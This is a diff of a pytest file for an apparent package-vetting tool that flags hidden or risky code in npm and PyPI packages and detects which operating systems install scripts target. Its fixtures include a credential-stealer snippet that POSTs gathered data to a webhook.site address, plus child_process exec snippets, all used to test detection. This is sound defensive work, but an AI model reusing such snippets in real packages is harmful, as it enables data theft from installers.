@@ -1,14 +1,16 @@
 """Static rules: what is told of code, where it stands, and what honest code is spared."""
 
 import base64
+from collections.abc import Sequence
 from pathlib import Path
 from typing import Any
 
 import pytest
 
 from clew.vetting.fact import Fact
-from clew.vetting.static import examine_files, examine_layers
-from clew.vetting.trace import Layer
+from clew.vetting.static import code_of, examine_files, examine_layers, platforms
+from clew.vetting.subject import Subject
+from clew.vetting.trace import Call, Detonation, Layer
 from vetting.made import subject
 
 STEALER = """const fs = require('fs');
@@ -20,9 +22,13 @@ https.request('https://webhook.site/abc', {method: 'POST'}).end(found.join());
 """
 
 
+def read(one: Subject) -> list[Fact]:
+    return examine_files(one, list(code_of(one)))
+
+
 def facts(tmp_path: Path, files: dict[str, str], **fields: Any) -> dict[str, Fact]:
     """The first fact of each rule."""
-    told = examine_files(subject(tmp_path, files, **fields))
+    told = read(subject(tmp_path, files, **fields))
     return {fact.rule: fact for fact in reversed(told)}
 
 
@@ -95,7 +101,7 @@ def test_each_risk_asks_for_a_look(tmp_path: Path, code: str, rule: str) -> None
     ],
 )
 def test_python_that_hides_what_it_runs(tmp_path: Path, code: str) -> None:
-    told = examine_files(subject(tmp_path, {"demo/__init__.py": code + "\n"}, "pypi"))
+    told = read(subject(tmp_path, {"demo/__init__.py": code + "\n"}, "pypi"))
     assert any(fact.weight == "review" for fact in told)
 
 
@@ -108,7 +114,7 @@ def test_python_that_hides_what_it_runs(tmp_path: Path, code: str) -> None:
     ],
 )
 def test_what_honest_python_does_is_allowed(tmp_path: Path, code: str) -> None:
-    told = examine_files(subject(tmp_path, {"setup.py": code}, "pypi"))
+    told = read(subject(tmp_path, {"setup.py": code}, "pypi"))
     assert not [fact for fact in told if fact.weight != "note"]
 
 
@@ -228,7 +234,7 @@ def test_what_only_a_layer_shows_blocks(tmp_path: Path) -> None:
                 "req('child_process').exec('id');\nreq('https').get(1)", "b" * 64, parent="a" * 64, depth=2
             ),
         ],
-        one,
+        list(code_of(one)),
     )
     assert [(fact.rule, fact.weight) for fact in told] == [
         ("layer.hidden-capabilities", "block"),
@@ -241,11 +247,90 @@ def test_what_only_a_layer_shows_blocks(tmp_path: Path) -> None:
 
 def test_what_the_files_show_too_is_not_hidden(tmp_path: Path) -> None:
     code = "require('child_process').exec('id'); require('https').get(1)"
-    assert examine_layers([layer(code)], subject(tmp_path, {"index.js": code})) == []
+    assert examine_layers([layer(code)], list(code_of(subject(tmp_path, {"index.js": code})))) == []
+
+
+def test_a_comment_shows_nothing(tmp_path: Path) -> None:
+    code = "require('child_process').exec('id'); require('https').get(1)"
+    one = subject(tmp_path, {"index.js": f"// {code}\ngo(decode(table))\n"})
+    assert [fact.rule for fact in examine_layers([layer(code)], list(code_of(one)))][:1] == [
+        "layer.hidden-capabilities"
+    ]
 
 
 def test_code_made_from_a_template_is_allowed(tmp_path: Path) -> None:
     text = "with (locals) { return '<p>' + escape(name) + '</p>' }"
-    assert (
-        examine_layers([layer(text)], subject(tmp_path, {"index.js": "new Function('locals', source)"})) == []
-    )
+    one = subject(tmp_path, {"index.js": "new Function('locals', source)"})
+    assert examine_layers([layer(text)], list(code_of(one))) == []
+
+
+@pytest.mark.parametrize(
+    ("code", "systems"),
+    [
+        ("if (process.platform === 'win32') go()", ["win32"]),
+        ("const p = { darwin: 'open', linux: 'xdg-open' }[process.platform]", ["darwin"]),
+        ("if (/^win/.test(process.platform)) go()", ["win32"]),
+        ("if (process.platform.startsWith('win')) go()", ["win32"]),
+        ("const programs = {'win32 x64': 1, 'darwin arm64': 2}", ["win32", "darwin"]),
+        ("if (os.type() == 'Windows_NT') go()", ["win32"]),
+        ("if (process.env.APPDATA) go()", ["win32"]),
+        ("// not on win32 or 'darwin'\n/* 'win32' */\ngo()", []),
+        ("darwinian.windows.push(winter)", []),
+    ],
+)
+def test_systems_that_install_scripts_name(tmp_path: Path, code: str, systems: list[str]) -> None:
+    one = subject(tmp_path, {"setup.js": code}, scripts={"postinstall": "node setup.js"})
+    found = platforms.of_install(one, list(code_of(one)))
+    assert list(found) == systems
+    assert set(found.values()) <= {"which setup.js names"}
+
+
+@pytest.mark.parametrize(
+    ("code", "systems"),
+    [
+        ("if sys.platform == 'win32': go()", ["win32"]),
+        ("if sys.platform.startswith('win'): go()", ["win32"]),
+        ("if os.name == 'nt': go()", ["win32"]),
+        ("if platform.system() in ('Windows', 'Darwin'): go()", ["win32", "darwin"]),
+        ("import winreg", ["win32"]),
+        ("setup(classifiers=['Operating System :: Microsoft :: Windows'])", []),
+    ],
+)
+def test_systems_that_python_names(tmp_path: Path, code: str, systems: list[str]) -> None:
+    one = subject(tmp_path, {"setup.py": code}, "pypi")
+    assert list(platforms.of_install(one, list(code_of(one)))) == systems
+
+
+def test_systems_that_a_shell_script_names(tmp_path: Path) -> None:
+    one = subject(tmp_path, {"a.sh": "case $(uname) in Darwin) ;; esac"}, scripts={"install": "sh a.sh"})
+    assert platforms.of_install(one, list(code_of(one))) == {"darwin": "which a.sh names"}
+
+
+def test_systems_that_the_manifest_and_its_commands_name(tmp_path: Path) -> None:
+    one = subject(tmp_path, {}, scripts={"install": "powershell -c echo"}, os=["darwin", "!linux"])
+    assert platforms.of_install(one, []) == {
+        "darwin": "which package.json names",
+        "win32": "which the install script names",
+    }
+
+
+def ran(*names: str, layers: Sequence[Layer] = ()) -> Detonation:
+    calls = [
+        Call(
+            time="2026-11-24T10:00:00Z", sequence=1, package="x", digest="d", platform="linux", phase="import",
+            witness="node", call="read_environment", name=name,
+        )
+        for name in names
+    ]  # fmt: skip
+    return Detonation(calls=calls, layers=list(layers), seconds=1, phases=["import"])
+
+
+def test_systems_that_a_run_leads_to(tmp_path: Path) -> None:
+    """What the package loads may name them and never ask; what asks and names none may mean each."""
+    one = subject(tmp_path, {"index.js": "open = { win32: 'start' }", "test/a.js": "x = 'darwin'"})
+    code = list(code_of(one))
+    assert platforms.of_run(ran("HOME"), code) == {}
+    assert platforms.of_run(ran("process.platform"), code) == {"win32": "which index.js names"}
+    assert list(platforms.of_run(ran("sys.platform"), [])) == ["win32", "darwin"]
+    inside = [layer("if (process.platform === 'darwin') go()", "c" * 64)]
+    assert platforms.of_run(ran(layers=inside), code) == {"darwin": "which the layer cccccccccccc names"}
